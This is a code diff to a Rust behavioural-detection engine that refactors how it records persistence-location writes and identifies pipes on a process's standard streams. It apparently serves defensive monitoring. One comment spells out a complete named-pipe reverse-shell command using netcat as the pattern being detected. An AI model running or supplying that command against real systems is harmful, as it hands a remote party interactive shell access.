@@ -867,6 +867,14 @@ impl Facts {
         Some(kind)
     }
 
+    /// A persistence location of `kind` was written (by an open or a rename/link into it).
+    fn note_persistence(&mut self, path: String, kind: &'static str) {
+        self.persistence.insert(path, kind);
+        if !self.persistence_kinds.iter().any(|k| k == kind) {
+            self.persistence_kinds.push(kind.to_owned());
+        }
+    }
+
     fn inherit(&mut self, key: &FileKey, owner: Owner, store: Option<&TaintStore>) -> bool {
         let Some(t) = store
             .and_then(|s| s.lookup(owner.uid, key, owner.ktime_ns))
@@ -1011,13 +1019,8 @@ impl Facts {
         sensed: &ExecFacts,
         h: &Heuristics,
     ) {
-        let stdio = |n: u8| sensed.stdio.iter().find(|s| s.fd == n);
-        let pipe_of = |n: u8| {
-            stdio(n)
-                .filter(|s| s.kind == FdKind::Pipe)
-                .and_then(|s| s.file)
-                .map(|f| (f.dev, f.ino))
-        };
+        let stdio = |n: u8| sensed.stdio_fd(n);
+        let pipe_of = |n: u8| stdio(n).and_then(StdioFd::pipe);
         // `mkfifo f; cat f | sh -i 2>&1 | nc host port > f`: an interactive shell on pipes.
         if name_in(name, &h.shell_names)
             && techniques::is_interactive_shell(argv)
@@ -1096,13 +1099,7 @@ impl Facts {
             }
             self.loader_vars.insert(v, ());
         }
-        let fd = |n: u8| sensed.stdio.iter().find(|s| s.fd == n);
-        let pipe_id = |s: &StdioFd| {
-            (s.kind == FdKind::Pipe)
-                .then_some(s.file)
-                .flatten()
-                .map(|f| (f.dev, f.ino))
-        };
+        let fd = |n: u8| sensed.stdio_fd(n);
         if runs_code {
             let on_socket = [0, 1].into_iter().filter_map(fd).any(|s| {
                 s.kind == FdKind::Socket
@@ -1111,7 +1108,7 @@ impl Facts {
             self.flags.interpreter_on_socket |= on_socket;
         }
         if stdin_program && let Some(stdin) = fd(0) {
-            if let Some(p) = pipe_id(stdin) {
+            if let Some(p) = stdin.pipe() {
                 self.interpreter_pipes.insert(p, owner.pid);
                 let fetched = self.fetch_pipes.get(&p).is_some();
                 let decoded = self.decode_pipes.get(&p).is_some();
@@ -1126,7 +1123,7 @@ impl Facts {
                 pf.runs_fetched |= self.ran(&key, owner, store);
             }
         }
-        if let Some(p) = fd(1).and_then(pipe_id) {
+        if let Some(p) = fd(1).and_then(StdioFd::pipe) {
             let reader = self.interpreter_pipes.get(&p).copied();
             if pf.network_tool {
                 self.fetch_pipes.insert(p, ());
@@ -1208,10 +1205,7 @@ impl Facts {
         }
         if super::classify::has_write_intent(flags) {
             if let Some(kind) = self.persistence_kind(path) {
-                self.persistence.insert(path.to_owned(), kind);
-                if !self.persistence_kinds.iter().any(|k| k == kind) {
-                    self.persistence_kinds.push(kind.to_owned());
-                }
+                self.note_persistence(path.to_owned(), kind);
             }
             let provenance = pf.provenance();
             let source = pf.read_sensitive.clone().or_else(|| self.holding.clone());
@@ -1383,10 +1377,7 @@ impl Facts {
                     && let Some(dest) = f.new_path.as_ref().map(|p| p.to_text())
                     && let Some(kind) = self.persistence_kind(&dest)
                 {
-                    self.persistence.insert(dest, kind);
-                    if !self.persistence_kinds.iter().any(|k| k == kind) {
-                        self.persistence_kinds.push(kind.to_owned());
-                    }
+                    self.note_persistence(dest, kind);
                 }
             }
             Activity::SendVolume(v) => {
